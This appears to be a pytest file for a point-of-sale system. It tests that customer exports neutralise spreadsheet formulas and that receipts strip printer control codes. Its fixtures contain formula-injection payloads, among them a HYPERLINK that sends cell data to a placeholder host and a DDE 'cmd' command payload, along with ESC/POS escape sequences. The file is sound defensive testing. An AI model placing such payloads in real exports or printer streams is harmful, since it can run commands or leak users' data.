"""Hostile text in stored data: exports stay inert, printers get no control codes,
input refuses control characters, a failed export leaves no audit entry."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile

import openpyxl
import pytest

from comptoir.data import db
from comptoir.logic.errors import ValidationFailed
from comptoir.operations import export_files
from comptoir.printing.escpos_render import render
from comptoir.printing.layout import receipt_layout
from comptoir.services import accounts, audit, customers, receipts, till
from comptoir.services.accounts import EntryRequest
from comptoir.services.till import LineRequest
from tests.conftest import ADMIN, MANAGER, STAFF
from tests.exported import export_customers
from tests.sales_samples import make_sales_shop

FORMULAS = {
    "first_name": '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"Click")',
    "last_name": "=cmd|' /C calc'!A0",
    "company": "+1+1",
    "city": "@SUM(A1:A9)",
    "notes": "-2+3",
}


def _legacy(text: str) -> str:
    """Text as another system may have stored it (PostgreSQL cannot store NUL at all)."""
    return text.replace("\x00", "") if db.on_postgres() else text


def _hostile_customer() -> int:
    customer_id = customers.create_customer(FORMULAS, STAFF)
    # Text stored before input was checked (or by another system) may hold controls.
    with db.transaction() as cur:
        cur.execute(
            "UPDATE customers SET address1 = ? WHERE id = ?",
            [_legacy("1 rue\x00 du\x1bp\x00\x19 Lac"), customer_id],
        )
    return customer_id


def test_csv_export_neutralises_formulas_and_drops_controls(database):
    _hostile_customer()
    export = export_customers(MANAGER, "", False, "csv")
    [row] = list(csv.DictReader(io.StringIO(export.data.decode("utf-8-sig"))))
    for name, value in FORMULAS.items():
        if name in row:
            assert row[name] == "'" + value, name
    assert row["address1"] == "1 rue dup Lac"


def test_xlsx_cells_are_strings_never_formulas(database):
    _hostile_customer()
    export = export_customers(MANAGER, "", False, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(export.data)).active
    header = [c.value for c in sheet[1]]
    cells = {name: sheet.cell(row=2, column=header.index(name) + 1) for name in header}
    # A text cell of a workbook is inert as typed: no apostrophe shows, nothing is a formula.
    for name, value in FORMULAS.items():
        if name in cells:
            assert (cells[name].data_type, cells[name].value) == ("s", value), name
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(io.BytesIO(export.data)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


def test_account_activity_csv_keeps_negative_amounts_as_numbers(database):
    customer_id = _hostile_customer()
    trade = next(t["id"] for t in accounts.account_types() if t["name"] == "Trade 30 days")
    accounts.assign_account_type(MANAGER, customer_id, trade, "500")
    accounts.record_entry(
        STAFF, customer_id, EntryRequest("charge", "50", reference="=1+2"), uuid.uuid4().hex
    )
    accounts.record_entry(
        STAFF,
        customer_id,
        EntryRequest("payment", "20", reference="@x", method="cash"),
        uuid.uuid4().hex,
    )
    rows = list(
        csv.reader(io.StringIO(accounts.activity_csv(MANAGER, customer_id).decode("utf-8-sig")))
    )
    by_reference = {r[2]: r for r in rows[1:]}
    assert by_reference["'=1+2"][6] == "50.00"
    assert by_reference["'@x"][6] == "-20.00"  # a number, not neutralised text


def test_a_failed_export_leaves_no_audit_entry(database, monkeypatch):
    _hostile_customer()

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(export_files, "_write_xlsx", broken)
    with pytest.raises(OSError):
        export_customers(MANAGER, "", False, "xlsx")
    entries, _ = audit.search_audit(ADMIN, entity="customer_list")
    assert entries == []


def test_a_receipt_never_sends_control_codes_to_the_printer(database):
    shop = make_sales_shop()
    customer_id = _hostile_customer()
    with db.transaction() as cur:
        cur.execute(
            "UPDATE customers SET first_name = ? WHERE id = ?",
            [_legacy("Zoé\x1bp\x00\x19\xfa"), customer_id],
        )
    sale_id = till.record_sale(
        STAFF, customer_id, [LineRequest(shop["tube"], "1")], [("card", "6.50")], uuid.uuid4().hex
    )
    document = receipts.receipt_document(receipts.sale_detail(STAFF, sale_id))
    data = render(receipt_layout(document, 42))
    assert b"\x1bp" not in data and b"\x00\x19" not in data
    assert b"Zo\x82p" in data  # é in CP858, the text kept, the codes gone


@pytest.mark.parametrize("field", ["last_name", "notes", "account_number", "city"])
def test_the_card_refuses_control_characters(database, field):
    with pytest.raises(ValidationFailed) as info:
        customers.create_customer({"last_name": "Ok", field: "Bad\x1bp\x00"}, STAFF)
    assert [(e.field, e.code) for e in info.value.errors] == [(field, "control_characters")]
